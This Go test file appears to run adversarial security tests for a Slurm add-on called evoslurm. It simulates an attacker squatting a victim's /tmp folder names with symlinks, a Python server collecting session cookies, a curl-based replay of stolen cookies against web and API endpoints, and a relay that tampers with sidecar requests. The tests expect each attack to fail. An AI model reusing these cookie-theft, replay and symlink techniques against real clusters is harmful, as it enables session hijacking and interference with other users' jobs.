package hostile_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/evoslurm/evoslurm/adapter/trials/rig"
	"github.com/evoslurm/evoslurm/slurmctl/slurmtest"
)

// The attacks of this file need more than the attacker's account: a private /tmp, the victim's
// browser, or requests of the victim that reach a server of the attacker's.

// privateTmp names the variable that holds the folder that becomes /tmp.
const privateTmp = "EVOSLURM_HOSTILE_TMP"

// inPrivateTmp runs this program again, with a /tmp of its own, and returns its exit status. The attacker
// can then take names there, and nobody else on this machine notices. ok is false if this process
// must do the work: it is the second one, or the machine permits no mounts.
func inPrivateTmp() (code int, ok bool) {
	if dir := os.Getenv(privateTmp); dir != "" {
		if err := syscall.Mount(dir, "/tmp", "", syscall.MS_BIND, ""); err != nil {
			os.Setenv(privateTmp, "")
		}
		return 0, false
	}
	if here, err := os.Getwd(); err != nil || os.Geteuid() != 0 || strings.HasPrefix(here, "/tmp/") {
		return 0, false
	}
	dir, err := os.MkdirTemp("", "evoslurm-hostile-")
	if err == nil {
		defer os.RemoveAll(dir)
		err = os.Chmod(dir, 0o777|os.ModeSticky)
	}
	if err != nil {
		return 0, false
	}
	cmd := exec.Command("/proc/self/exe")
	for _, arg := range os.Args[1:] {
		if !strings.HasPrefix(arg, "-test.testlogfile=") { // it is in the other /tmp
			cmd.Args = append(cmd.Args, arg)
		}
	}
	cmd.Env = append(os.Environ(), privateTmp+"="+dir, "TMPDIR=/tmp")
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS, Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		return 0, false
	}
	_ = cmd.Wait() // the exit status says it
	return cmd.ProcessState.ExitCode(), true
}

// followed is a job of the victim's that follows its own growth and shrinking, with hooks.
const followed = `#!/bin/bash
export EVO_ON_GROW='echo hook grow $EVO_ARRIVED' EVO_ON_SHRINK='echo hook shrink $EVO_LEAVING'
evosrun --follow=script sh -c 'trap "echo drained; exit" TERM; echo works; while :; do sleep 0.1; done' &
for i in 1 2 3; do sleep 3; evosctl next >/dev/null; done
wait $!; echo "status $?"
`

// takenFolder takes the names of the victim's folder in /tmp in three ways, before a job of the victim's
// needs the folder. It then meddles with the folder that the victim has instead.
func takenFolder(ctx context.Context, f *field) error {
	if os.Getenv(privateTmp) == "" {
		return errors.New("this needs a private /tmp: run it as root, where mounts are permitted, from a folder outside /tmp")
	}
	ctx = context.WithoutCancel(ctx) // three jobs last longer than the victim's other one
	name := fmt.Sprint("/tmp/evoslurm-", f.Cluster.Users()[victim].UID)
	if err := os.WriteFile(f.Dir+"/followed.sh", []byte(followed), 0o755); err != nil {
		return err
	}
	var failed error
	for _, take := range []string{"mkdir -m 777 $n", "touch $n && chmod 666 $n", "mkdir -p -m 777 away && ln -s $PWD/away $n"} {
		olds, _ := filepath.Glob(name + "*")
		for _, old := range olds {
			failed = errors.Join(failed, os.RemoveAll(old))
		}
		out, err := f.as(ctx, attacker, "for n in $1 $1.0 $1.guess; do "+take+" || exit; done; echo tried", name)
		failed = errors.Join(failed, err, tried(out))
		meddle, stop := context.WithCancel(ctx)
		done := make(chan string, 1)
		go func() {
			out, _ := f.as(meddle, attacker, `while :; do for d in $1.*; do [ -O $d ] || for c in "ls $d/" "mv $d $d.x" "rm -r $d" "touch $d/x" "ln -s $1 $d/x"; do
  $c 2>/dev/null && echo "the attacker could $c"; echo "at $d"; done; done; sleep 0.2; done`, name)
			done <- out
		}()
		out, err = f.as(ctx, victim, `job=$(evosbatch --parsable --output=followed-out --profile=1@3s,2@3s,1@3s ../followed.sh) || exit
while is=$(squeue -h -t all -j $job -o %T); case $is in PENDING|RUNNING|COMPLETING) ;; *) false;; esac; do sleep 0.5; done; echo "ended $is"; cat followed-out; rm -f followed-out`)
		failed = errors.Join(failed, err)
		stop()
		did := <-done
		for _, want := range []string{"ended COMPLETED\n", "hook grow n", "hook shrink n", "drained\n", "status 0\n", "warning: " + name + " does not belong to you alone"} {
			if !strings.Contains(out, want) {
				failed = errors.Join(failed, fmt.Errorf("after %q, the victim's job lacks %q; it printed\n%s", take, want, out))
			}
		}
		if strings.Contains(did, "could") || !strings.Contains(did, "at "+name+".") {
			failed = errors.Join(failed, fmt.Errorf("after %q, the attacker took or did not find the victim's folder:\n%.2000s", take, did))
		}
		if left, _ := filepath.Glob(f.Dir + "/out/away/*"); len(left) > 0 {
			failed = errors.Join(failed, fmt.Errorf("after %q, the victim made %q in the attacker's folder", take, left))
		}
	}
	return failed
}

const (
	// webToken is the victim's token for the page.
	webToken = "0123456789abcdefghijklmn"

	// collector is a server of the attacker's that notes the cookies it receives.
	collector = `
import http.server
log = open("collected", "w", 1)
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print(self.path, self.headers.get("Cookie"), file=log)
        self.send_response(200); self.end_headers()
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", int("LISTEN".split(":")[1])), H)
print("tried", flush=True)
s.serve_forever()
`
	// browse signs in and visits the collector: first at addresses that the attacker can know, then at
	// the path of the session. curl keeps cookies as browsers do: by host and path, for all ports.
	browse = `umask 077; rm -f jar
browser() { curl -s --max-time 10 --retry 5 --retry-connrefused -b jar -c jar "$@"; }
form=$(browser http://$page/ | grep -o 's/[A-Z2-7]\{26\}/signin' | head -1)
[ "$(browser -o /dev/null -w '%{http_code}' --data-urlencode token=$token http://$page/$form)" = 303 ] || { echo "no sign-in at '$form'"; exit 1; }
session=${form%signin}; echo $session >session; chmod 644 session
browser http://$page/$session | grep -q ">$(id -un)</span>" || { echo "not signed in"; exit 1; }
for at in '' s/ s/ABCDEFGHIJKLMNOPQRSTUVWXYZ/ signin; do browser http://$evil/$at; done
browser http://$evil/$session
grep -q $token jar && echo "the cookie is the token"
own=$(cat web); browser -L $own | grep -q '<html' || { echo "evosctl web at $own serves nothing"; exit 1; }
echo "${own%%/s/*}" >web-port; chmod 644 web-port; echo tried`

	// replay uses the cookie elsewhere while the victim is signed in, and then where it was valid,
	// which is the answer at that time.
	replay = `session=$(cat session); own=$(cat web-port)
while read at cookie; do
  if [ "$at" = /$session ]; then c=$cookie; elif [ "$cookie" != None ]; then echo "the browser sent '$cookie' to $at"; exit 1; fi
done <collected
case "$c" in evoslurm=?*) ;; *) echo "no cookie was collected: $c"; exit 1;; esac
code() { curl -s -o /dev/null -w '%{http_code}' --max-time 10 -H "Cookie: $c" "$@"; }
for at in $page/ $page/s/ABCDEFGHIJKLMNOPQRSTUVWXYZ/ "$page/${session}signin --data token=${c#*=}" $api/v1/jobs "$api/v1/jobs -H Authorization:Bearer\ ${c#*=}" $own/ "$own/?token=${c#*=}"; do
  is=$(eval code $(printf '%s' "$at" | sed 's/[?]/\\&/')); case $is in 40[134]) echo "tried $at: $is";; *) echo "the cookie opens $at: $is"; exit 1;; esac
done
echo "at the session: $(code $page/$session)"`
)

// cookie has the victim sign in on the page and visit the attacker's server, which replays what it
// received, before and after the victim signs out.
func cookie(ctx context.Context, f *field) error {
	ctx, cancel := context.WithCancel(context.WithoutCancel(ctx))
	defer cancel()
	evil, err := rig.FreeAddress()
	if err != nil {
		return err
	}
	ended := make(chan error, 2)
	go func() { ended <- python(strings.ReplaceAll(collector, "LISTEN", evil))(ctx, f) }()
	go func() {
		_, err := f.as(ctx, victim, "umask 077; exec evosctl web >web")
		ended <- err
	}()
	with := fmt.Sprintf("page=%s evil=%s api=%s\n", f.page, evil, f.Address)
	step := func(user int, script string) string {
		var out string
		if err == nil {
			out, err = f.as(ctx, user, with+script)
			if err = errors.Join(err, tried(out)); err != nil {
				err = fmt.Errorf("%w\n%s", err, out)
			}
		}
		return out
	}
	step(victim, "until [ -s web ]; do sleep 0.1; done; token="+webToken+"\n"+browse)
	before := step(attacker, replay)
	step(victim, `[ "$(curl -s -b jar -o /dev/null -w '%{http_code}' --data '' http://$page/$(cat session)signout)" = 303 ] && echo tried`)
	after := step(attacker, replay)
	if err == nil && (!strings.Contains(before, "session: 200") || !strings.Contains(after, "session: 401")) {
		err = fmt.Errorf("with the session's path, want 200 before signing out and 401 afterwards:\n%s\n%s", before, after)
	}
	cancel()
	return errors.Join(err, <-ended, <-ended)
}

// relay is a server of the attacker's on the way to a sidecar, which changes requests or answers as the
// file "mode" says: MODE ADDRESS.
const relay = `
import http.client, http.server, os
victim, kept = os.environ["VICTIM"], []
def log(*words): print(*words, file=open("relayed", "a"))
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        mode, to = open("mode").read().split()
        method, path = self.command, self.path
        if mode == "request": method, path, body = "POST", "/v1/jobs/%s/next" % victim, b'{"from":1}'
        head = {k: v for k, v in self.headers.items() if k.lower() != "content-length"}
        c = http.client.HTTPConnection(to, timeout=10); c.request(method, path, body or None, head)
        r = c.getresponse(); text = r.read(); answer = [r.status, r.getheader("Evoslurm-Answer"), text]
        log("relayed", mode, path, r.status, text[:300])
        if mode == "nodes": answer[2] = text.replace(b'"id":' + victim.encode(), b'"id":1')
        if mode == "status": answer[0] = 404
        if mode == "nodes" and answer[2] == text: log("unchanged", text[:300])
        if mode == "old" and kept: answer = kept[0]
        kept.append(answer)
        self.send_response(answer[0]); self.send_header("Content-Type", "application/json"); self.send_header("Content-Length", str(len(answer[2])))
        if answer[1]: self.send_header("Evoslurm-Answer", answer[1])
        self.end_headers(); self.wfile.write(answer[2])
    do_GET = do_POST
    def log_message(self, *a): pass
for at in "LISTEN".split()[1:]:
    if os.fork() == 0: break
else: at = "LISTEN".split()[0]
s = http.server.ThreadingHTTPServer(("127.0.0.1", int(at.split(":")[1])), H)
print("tried", at, flush=True)
s.serve_forever()
`

// relayed has the victim's requests go through the attacker's relay: at an address that is no sidecar's,
// at that of a forwarder, which the sidecar accepts, and to the sidecar of another cluster with the same
// MUNGE key.
func relayed(ctx context.Context, f *field) error {
	during := ctx
	ctx, cancel := context.WithCancel(context.WithoutCancel(ctx))
	defer cancel()
	strange, err := rig.FreeAddress()
	if err != nil {
		return err
	}
	ended := make(chan error, 1)
	go func() { ended <- python(strings.ReplaceAll(relay, "LISTEN", strange+" "+f.forwarder))(ctx, f) }()
	ask := func(at, mode, to, want, said string) {
		e := os.WriteFile(f.Dir+"/out/mode", []byte(mode+" "+to), 0o644)
		_ = os.Remove(f.Dir + "/out/relayed") // there is none at first
		out, _ := f.as(ctx, victim, fmt.Sprintf(`until (exec 3<>/dev/tcp/%s) 2>/dev/null; do sleep 0.1; done
EVOSLURM_API=%s timeout 20 evosqueue --json=evoslurm 2>&1`, strings.ReplaceAll(at, ":", "/"), at))
		log, _ := os.ReadFile(f.Dir + "/out/relayed")
		text := string(log)
		if e != nil || !strings.Contains(out, want) || !strings.Contains(text, "relayed "+mode) || !strings.Contains(text, said) ||
			strings.Contains(text, "unchanged") || strings.Contains(out, `"id": `) != (mode == "pass") {
			err = errors.Join(err, e, fmt.Errorf("relayed in mode %s: want %q by the command and %q by the sidecar:\n%s%.2000s", mode, want, said, out, text))
		}
	}
	const altered = "not for this answer"
	ask(strange, "other", f.Address, "made for a server at", "made for a server at")
	ask(f.forwarder, "pass", f.Address, fmt.Sprintf(`"id": %d,`, f.victim), " 200 ")
	ask(f.forwarder, "old", f.Address, "used before", " 200 ")
	ask(f.forwarder, "nodes", f.Address, altered, " 200 ")
	ask(f.forwarder, "status", f.Address, altered, " 200 ")
	ask(f.forwarder, "request", f.Address, altered, " 401 ")
	<-during.Done() // another cluster takes time from this one
	err = errors.Join(err, f.elsewhere(func(address string) {
		ask(strange, "cluster", address, "made for cluster", `this sidecar drives`)
	}))
	cancel()
	return errors.Join(err, <-ended)
}

// elsewhere runs the sidecar of another cluster, which has the same MUNGE key.
func (f *field) elsewhere(try func(address string)) error {
	cluster, err := slurmtest.Boot(context.Background(), slurmtest.Options{Nodes: 1, ExtraConf: "ClusterName=elsewhere"})
	if err != nil {
		return err
	}
	defer func() { _ = cluster.Stop(context.Background()) }()
	other, err := rig.New(cluster, bin, "")
	if err != nil {
		return err
	}
	defer os.RemoveAll(other.Dir)
	text := strings.ReplaceAll(other.Configuration(""), cluster.MungeSocket(), f.Cluster.MungeSocket())
	if err := os.WriteFile(other.Dir+"/evoslurm.yaml", []byte(text), 0o644); err != nil {
		return err
	}
	_, stop, err := other.Start(rig.Account{})
	if err != nil {
		return err
	}
	defer func() { _ = stop() }()
	for end := time.Now().Add(patience); ; time.Sleep(100 * time.Millisecond) {
		if _, err = other.Jobs(victim); err == nil {
			break
		} else if time.Now().After(end) {
			return err
		}
	}
	try(other.Address)
	return nil
}
